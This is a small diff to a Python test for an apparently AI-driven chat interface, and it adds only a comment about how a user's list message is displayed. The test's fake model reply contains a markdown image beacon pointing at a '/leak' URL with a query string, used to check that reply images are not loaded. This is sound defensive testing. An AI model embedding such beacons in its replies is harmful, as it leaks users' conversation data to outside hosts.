@@ -521,5 +521,5 @@ def test_user_message_shown_as_written_and_reply_images_not_loaded(fake):
     fake.add({"text": "Done ![beacon](http://127.0.0.1:9/leak?q=list)"})
     at = send(start(), "Shopping list:\n- milk\neggs\nbread")
     user, reply = bubbles(at)[-2:]
-    assert user == ("user", plain("Shopping list:\n- milk\neggs\nbread"))
+    assert user == ("user", plain("Shopping list:\n- milk\neggs\nbread"))  # each line kept, "- milk" no bullet
     assert "![" not in reply[1].replace("\\![", "") and "image not loaded" in reply[1]
